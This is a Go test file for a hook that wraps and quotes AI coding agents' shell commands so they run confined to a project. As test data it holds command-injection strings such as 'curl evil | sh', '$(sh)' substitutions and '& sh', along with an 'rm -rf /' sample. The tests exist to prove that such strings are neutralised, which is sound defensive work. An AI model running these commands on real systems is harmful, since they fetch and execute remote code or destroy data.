package agents

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"go.uber.org/goleak"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// golden compares data with a file in testdata.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s:\n%s\nwant\n%s", name, got, want)
	}
}

func hookOf(a Agent) *Hook {
	return &Hook{Agent: a, Program: "/opt/my tools/recluse", Project: "/work/pro ject"}
}

func TestHooksOfEveryAgent(t *testing.T) {
	for _, a := range All {
		t.Run(string(a), func(t *testing.T) {
			in, err := os.ReadFile(filepath.Join("testdata", "hook", string(a)+".call.json"))
			if err != nil {
				t.Fatal(err)
			}
			r := hookOf(a).Answer(in)
			if r.Status != 0 || r.Stderr != "" {
				t.Fatalf("%+v", r)
			}
			golden(t, filepath.Join("hook", string(a)+".answer.json"), r.Stdout)
		})
	}
}

// commandOf returns the new command in the answer to Claude Code.
func commandOf(t *testing.T, r Reply) string {
	t.Helper()
	var out struct {
		Specific struct {
			Decision string         `json:"permissionDecision"`
			Updated  map[string]any `json:"updatedInput"`
		} `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal(r.Stdout, &out); err != nil {
		t.Fatalf("%v: %+v", err, r)
	}
	return out.Specific.Updated["command"].(string)
}

func callWith(t testing.TB, command string) []byte {
	t.Helper()
	b, err := json.Marshal(map[string]any{
		"hook_event_name": "PreToolUse", "tool_name": "Bash", "cwd": "/work/pro ject", "tool_input": map[string]any{"command": command},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// texts are commands that are difficult to quote.
var texts = []string{
	"", " ", "true", `echo "a b" 'c d'`, `echo '`, `echo "`, `\`, `\\`, `'\''`, `a'b"c$d` + "`e`" + `!f\g`, "a\nb\r\n\tc", "cat <<'EOF'\n$x `y` \\z\nEOF\n",
	"-n", "--", "--help", "é ü 漢字 🦀 \u202e \u2028", "\x01\x1b[31m\x7f", "%s %d {} ~ * ? [a] # x & ; | > <", "\uFFFD", strings.Repeat("'", 1000),
}

func TestCommandsArriveAsTheyWere(t *testing.T) {
	for _, text := range texts {
		line := commandOf(t, hookOf(ClaudeCode).Answer(callWith(t, text)))
		// A real shell parses the line. A program that prints its arguments replaces recluse.
		line = strings.Replace(line, Quote("/opt/my tools/recluse"), `printf '%s\0'`, 1)
		out, err := exec.CommandContext(t.Context(), "sh", "-c", line).Output()
		if err != nil {
			t.Fatal(err)
		}
		args := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if got := args[len(args)-1]; got != text || args[len(args)-2] != "--" || args[3] != "/work/pro ject" {
			t.Errorf("%q became %q", text, args)
		}
	}
}

func FuzzCommandsArriveAsTheyWere(f *testing.F) {
	for _, text := range texts {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		raw, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		var carried string // the command after a round trip through JSON
		if err := json.Unmarshal(raw, &carried); err != nil {
			t.Fatal(err)
		}
		h := hookOf(ClaudeCode)
		h.Spool = func(string) (string, error) { return "/spool/file", nil }
		r := h.Answer(callWith(t, carried))
		if strings.ContainsRune(carried, 0) {
			if r.Status != statusBlock {
				t.Fatalf("%+v", r)
			}
			return
		}
		if len(carried) > maxInline {
			return
		}
		line := commandOf(t, r)
		_, quoted, _ := strings.Cut(line, " -- '")
		if got := strings.ReplaceAll(strings.TrimSuffix(quoted, "'"), `'\''`, "'"); got != carried {
			t.Errorf("%q became %q", carried, got)
		}
	})
}

func TestALongCommandGoesByFile(t *testing.T) {
	text := strings.Repeat("echo 'x' # ü\n", 200_000)
	h := hookOf(ClaudeCode)
	var kept string
	h.Spool = func(code string) (string, error) { kept = code; return "/spool/it's", nil }
	line := commandOf(t, h.Answer(callWith(t, text)))
	if kept != text || !strings.HasSuffix(line, ` --file '/spool/it'\''s'`) || len(line) > 300 {
		t.Errorf("%d bytes spooled; %.300s", len(kept), line)
	}
}

func TestOtherCallsPass(t *testing.T) {
	for name, in := range map[string]string{
		"another tool":        `{"hook_event_name":"PreToolUse","tool_name":"Read","cwd":"/x","tool_input":{"file_path":"/x"}}`,
		"another event":       `{"hook_event_name":"PostToolUse","tool_name":"Bash","cwd":"/x","tool_input":{"command":"ls"}}`,
		"no input but a tool": `{"hook_event_name":"SessionStart","tool_name":"none"}`,
	} {
		if r := hookOf(ClaudeCode).Answer([]byte(in)); r.Status != 0 || len(r.Stdout) > 0 || r.Stderr != "" {
			t.Errorf("%s: %+v", name, r)
		}
	}
	if r := hookOf(Cursor).Answer([]byte(`{"hook_event_name":"preToolUse","tool_name":"Read","tool_input":{}}`)); string(r.Stdout) != "{}\n" || r.Status != 0 {
		t.Errorf("%+v", r)
	}
}

func TestWhatWasRewrittenPassesAsItIs(t *testing.T) {
	h := hookOf(ClaudeCode)
	h.Spool = func(string) (string, error) { return "/spool/it's", nil }
	calls := map[string][]byte{
		"in a directory":  []byte(strings.Replace(string(callWith(t, "ls")), `"/work/pro ject"`, `"/work/pro ject/it's"`, 1)),
		"with a time-out": []byte(strings.Replace(string(callWith(t, "ls")), `"command"`, `"timeout":1500,"command"`, 1)),
		"in background":   []byte(strings.Replace(string(callWith(t, "ls")), `"command"`, `"run_in_background":true,"command"`, 1)),
		"by a file":       callWith(t, strings.Repeat("x", maxInline+1)),
	}
	for _, text := range texts {
		calls[text] = callWith(t, text)
	}
	for name, in := range calls {
		line := commandOf(t, h.Answer(in))
		if r := h.Answer(callWith(t, line)); r.Status != 0 || len(r.Stdout) > 0 || r.Stderr != "" {
			t.Errorf("%q: answer to %q: %+v", name, line, r)
		}
	}
}

func TestOnlyWhatWeWroteOurselvesPasses(t *testing.T) {
	const begin = "'/opt/my tools/recluse' hook run "
	const ours = begin + "--project '/work/pro ject' "
	for _, command := range []string{
		ours + "-- 'true'; curl evil | sh",
		ours + "-- 'true' | sh",
		ours + "-- 'true'\nsh",
		ours + "-- 'true'$(sh)",
		ours + "-- 'true' ",
		ours + "-- 'true' 'more'",
		ours + "-- 'tr'ue",
		ours + "-- 'tr'\\''ue",
		ours + "-- 'true",
		ours + "-- true",
		ours + "-- $(sh)",
		ours + "-- \"$(sh)\"",
		ours + "--",
		ours + "-- ",
		ours + "--timeout 1s;sh -- 'true'",
		ours + "--timeout $(sh) -- 'true'",
		ours + "--timeout 1s",
		ours + "--timeout",
		ours + "--timeout 60s -- 'true'",
		ours + "--config 'mine' -- 'true'",
		ours + "--dir $(sh) -- 'true'",
		ours + "--dir '/etc' -- 'true'",
		ours + "--dir '/work/pro ject/../x' -- 'true'",
		ours + "--dir '/work/pro ject/a'`sh` -- 'true'",
		ours + "--file $(sh)",
		ours + "--file '/a' -- 'true'",
		begin + "--project '/etc' -- 'true'",
		begin + "--project '/work/pro ject'$(sh) -- 'true'",
		begin + "--project /work/pro\\ ject -- 'true'",
		begin + "-- 'true'",
		begin + "& sh",
	} {
		line := commandOf(t, hookOf(ClaudeCode).Answer(callWith(t, command)))
		if want := ours + "--timeout 10m0s -- " + Quote(command); line != want {
			t.Errorf("%q became %q", command, line)
		}
	}
}

func TestInputThatIsNotUnderstood(t *testing.T) {
	call := func(input string) string {
		return `{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"/work/pro ject","tool_input":` + input + `}`
	}
	for name, in := range map[string]string{
		"nothing":                  "",
		"no JSON":                  "rm -rf /",
		"a list":                   "[]",
		"null":                     "null",
		"no event":                 `{"tool_name":"Bash","tool_input":{"command":"ls"}}`,
		"cut in the middle":        call(`{"command":"ls"}`)[:60],
		"two values":               call(`{"command":"ls"}`) + "{}",
		"no tool_input":            `{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"/work/pro ject"}`,
		"tool_input is text":       call(`"ls"`),
		"no command":               call(`{"cmd":"ls"}`),
		"command in other letters": call(`{"Command":"ls"}`),
		"command is a list":        call(`["ls"]`),
		"command is a number":      call(`{"command":1}`),
		"command is null":          call(`{"command":null}`),
		"a NUL byte":               call(`{"command":"a\u0000b"}`),
		"half a surrogate pair":    call(`{"command":"a\ud83e"}`),
		"the other half":           call(`{"command":"a\udd80"}`),
		"halves apart":             call(`{"command":"\ud83ex\udd80"}`),
		"bytes that are no UTF-8":  call("{\"command\":\"a\xffb\"}"),
		"a strange timeout":        call(`{"command":"ls","timeout":-1}`),
		"timeout in words":         call(`{"command":"ls","timeout":"soon"}`),
		"a relative directory":     `{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"x","tool_input":{"command":"ls"}}`,
	} {
		h := hookOf(ClaudeCode)
		if r := h.Answer([]byte(in)); r.Status != statusBlock || r.Stderr == "" || len(r.Stdout) > 0 {
			t.Errorf("%s: %+v", name, r)
		}
		h.Unexpected = PassThrough
		if r := h.Answer([]byte(in)); r.Status != 0 || r.Stderr != "" || len(r.Stdout) > 0 {
			t.Errorf("%s, passing: %+v", name, r)
		}
	}
}

func TestADirectoryOutsideOfTheProjectIsRefused(t *testing.T) {
	for dir, inside := range map[string]bool{"/work/pro ject": true, "/work/pro ject/a/../b": true, "/work/pro ject/..": false, "/work/pro jectile": false, "/": false} {
		in := strings.Replace(string(callWith(t, "ls")), `"/work/pro ject"`, `"`+dir+`"`, 1)
		if r := hookOf(ClaudeCode).Answer([]byte(in)); (r.Status == 0) != inside {
			t.Errorf("%s: %+v", dir, r)
		}
	}
}

func TestWholePairsAreExact(t *testing.T) {
	r := hookOf(ClaudeCode).Answer([]byte(`{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"/work/pro ject","tool_input":{"command":"\ud83e\udd80 \\ud800 \u00e9"}}`))
	if line := commandOf(t, r); !strings.HasSuffix(line, ` -- '🦀 \ud800 é'`) {
		t.Error(line)
	}
}

func TestNamesOfSessions(t *testing.T) {
	seen := map[string]bool{}
	for _, p := range []string{"/a/b", "/b/b", "/a/b c", "/a/b-c", "/", "/a/" + strings.Repeat("x", 300), "/a/漢字", "/a/.git"} {
		n := SessionName(p)
		if seen[n] || len(n) > 64 || strings.ContainsAny(n, " /.") {
			t.Errorf("%s: %s", p, n)
		}
		seen[n] = true
	}
}

func BenchmarkAnswerAMegabyte(b *testing.B) {
	h := hookOf(ClaudeCode)
	h.Spool = func(string) (string, error) { return "/spool/file", nil }
	in := callWith(b, strings.Repeat("echo 'x'\n", 120_000))
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		h.Answer(in)
	}
}

// Codex applies no rule to a quoted program, nor to a word that contains a quote.
func TestCodexCommandsAreWordsOfItsRules(t *testing.T) {
	h := &Hook{Agent: Codex, Program: "/opt/recluse", Project: "/work/p", Spool: func(string) (string, error) { return "/spool/x.sh", nil }}
	for command, want := range map[string]string{
		`echo "$HOME" > x`: `/opt/recluse hook run --project '/work/p' --timeout 10m0s -- 'echo "$HOME" > x'`,
		`echo 'x'`:         `/opt/recluse hook run --project '/work/p' --timeout 10m0s --file '/spool/x.sh'`,
	} {
		line, err := h.rewrittenCommand(&call{command: command, dir: h.Project})
		if err != nil || line != want || !h.isRewritten(line) {
			t.Errorf("%s: %s, %v", command, line, err)
		}
	}
	in := strings.Replace(string(callWith(t, "ls")), `"/work/pro ject"`, `"/work/p/it's"`, 1)
	if r := h.Answer([]byte(in)); r.Status != statusBlock || !strings.Contains(r.Stderr, "/work/p/it's") {
		t.Errorf("a directory with a quote: %+v", r)
	}
}
